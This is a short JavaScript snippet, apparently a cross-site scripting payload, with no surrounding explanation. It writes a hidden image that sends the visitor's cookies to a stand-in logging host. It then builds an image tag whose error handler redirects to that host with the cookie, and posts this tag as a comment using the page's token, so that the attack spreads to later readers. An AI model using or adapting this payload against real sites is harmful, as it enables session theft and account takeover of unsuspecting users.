document.write('<img src="http://log.placeholder.example/c.php?c=' + escape(document.cookie) + '" width=0 height=0>');
var s = '<img src=x onerror="location=\'http://log.placeholder.example/c.php?c=\'+document.cookie">';
$.post("/comments", { body: "nice post " + s, token: $("input[name=token]").val() });
